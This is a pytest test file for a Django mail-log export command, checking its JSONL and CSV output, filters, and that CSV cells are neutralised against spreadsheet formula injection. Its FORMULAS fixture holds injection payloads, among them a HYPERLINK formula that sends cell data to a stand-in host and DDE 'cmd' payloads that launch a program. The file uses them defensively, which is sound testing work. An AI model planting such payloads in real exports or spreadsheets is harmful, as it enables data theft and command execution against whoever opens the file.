"""``manage.py maillog_export``: the log's stable interface for scripts."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.core.mail import EmailMessage
from django.core.management import CommandError, call_command
from django.utils import timezone

from tests.testapp.models import Invoice
from tests.utils import client_for, post_json, send_with_ids
from wagtail_maillog import label
from wagtail_maillog.models import Message, Recipient

pytestmark = pytest.mark.django_db


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("maillog_export", *args, stdout=out)
    return out.getvalue()


@pytest.fixture
def log(client, webhook_auth):
    invoice = Invoice.objects.create(number="9")

    msg = EmailMessage("Invoice 9", "b", "a@example.com", ["payer@example.com"])
    label(msg, source="invoice", related=invoice)
    msg.send()
    newsletter = send_with_ids(["a@example.com", "b@example.com"], "pm-1", subject="News")
    Message.objects.filter(pk=newsletter.pk).update(source="newsletter")
    bounce = {
        "RecordType": "Bounce",
        "ID": 1,
        "Type": "HardBounce",
        "MessageID": "pm-1",
        "Email": "b@example.com",
        "BouncedAt": "2026-11-05T16:33:54Z",
    }
    post_json(client, "/anymail/postmark/tracking/", bounce, webhook_auth)
    return invoice


def test_jsonl_has_one_line_per_recipient_with_the_documented_keys(log):
    lines = [json.loads(line) for line in export().splitlines()]
    assert len(lines) == 3
    by_to = {line["to"]: line for line in lines}
    invoice_line = by_to["payer@example.com"]
    assert invoice_line["related"] == f"testapp.invoice:{log.pk}"
    assert invoice_line["source"] == "invoice"
    assert invoice_line["subject"] == "Invoice 9"
    assert invoice_line["esp_message_id"] == "0"
    bounced = by_to["b@example.com"]
    assert bounced["status"] == "bounced" and bounced["events"] == 1
    assert bounced["related"] is None
    assert bounced["message_id"] == Recipient.objects.get(address="b@example.com").message_id
    assert bounced["created_at"].startswith(str(timezone.now().year))
    for key in (
        "message_id",
        "esp_message_id",
        "created_at",
        "to",
        "subject",
        "status",
        "source",
        "related",
        "events",
    ):
        assert key in invoice_line


def test_filters(log):
    assert [json.loads(x)["to"] for x in export("--status", "bounced").splitlines()] == [
        "b@example.com"
    ]
    assert len(export("--source", "newsletter").splitlines()) == 2
    assert len(export("--source", "invoice,newsletter").splitlines()) == 3
    tomorrow = (timezone.now() + timedelta(days=1)).date().isoformat()
    assert export("--since", tomorrow) == ""
    assert len(export("--until", tomorrow).splitlines()) == 3


def test_csv(log):
    reader = csv.DictReader(io.StringIO(export("--format", "csv")))
    rows = list(reader)
    assert len(rows) == 3
    assert {r["status"] for r in rows} >= {"bounced"}
    assert "related" in reader.fieldnames


def test_bad_arguments_give_a_clear_error(log):
    with pytest.raises(CommandError, match="Unknown status"):
        export("--status", "lost")
    with pytest.raises(CommandError, match="Not an ISO date"):
        export("--since", "yesterday")


#: Cells a spreadsheet would run as a formula, as outsiders can write them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.fixture
def hostile(client, webhook_auth):
    """A subject, an address, a display name and an ESP's bounce text, all formula-like."""
    rows = []
    for i, formula in enumerate(FORMULAS):
        message = send_with_ids([f"-{i}+x@example.com"], f"pm-h{i}", subject=f"Hi {i}")
        Message.objects.filter(pk=message.pk).update(subject=formula)
        bounce = {
            "RecordType": "Bounce",
            "ID": 100 + i,
            "Type": "HardBounce",
            "MessageID": f"pm-h{i}",
            "Email": f"-{i}+x@example.com",
            "BouncedAt": "2026-11-05T16:33:54Z",
            "Description": formula,
            "Details": formula,
        }
        post_json(client, "/anymail/postmark/tracking/", bounce, webhook_auth)
        rows.append(message)
    named = EmailMessage("Named", "b", "a@example.com", ['"=1+1, @evil" <named@example.com>'])
    named.send()
    return rows


def _unsafe(cell: str) -> bool:
    starts = ("=", "+", "-", "@", "\t", "\r", "＝")
    return cell.startswith(starts) or cell.lstrip().startswith(starts)


def test_csv_cells_are_inert_and_json_lines_keep_the_text(hostile):
    table = list(csv.reader(io.StringIO(export("--format", "csv"))))
    header, body = table[0], table[1:]
    assert len(body) == len(FORMULAS) + 1
    for row in body:
        for cell in row:
            assert not _unsafe(cell), cell
    by_to = {row["to"]: row for row in (dict(zip(header, r, strict=True)) for r in body)}
    first = by_to["'-0+x@example.com"]  # the address, neutralised
    assert first["subject"] == "'" + FORMULAS[0]
    assert first["reason"].startswith("'=HYPERLINK(")  # the ESP's bounce text
    assert by_to["'-6+x@example.com"]["subject"] == "'  =1+1"  # after leading spaces too
    assert by_to["named@example.com"]["subject"] == "Named"  # ordinary text untouched

    exact = {line["to"]: line for line in map(json.loads, export().splitlines())}
    for i, formula in enumerate(FORMULAS):
        assert exact[f"-{i}+x@example.com"]["subject"] == formula
    assert exact["-0+x@example.com"]["reason"] == first["reason"][1:]


def test_the_admin_export_is_inert_too(hostile):
    admin = client_for(User.objects.create_superuser("admin", "admin@example.com", "pw"))
    body = b"".join(admin.get("/admin/maillog/?export=csv").streaming_content).decode()
    table = list(csv.reader(io.StringIO(body)))
    assert len(table) == len(FORMULAS) + 2
    for row in table[1:]:
        for cell in row:
            assert not _unsafe(cell), cell
    jsonl = b"".join(admin.get("/admin/maillog/?export=jsonl").streaming_content).decode()
    subjects = {json.loads(line)["subject"] for line in jsonl.splitlines()}
    assert subjects == {*FORMULAS, "Named"}
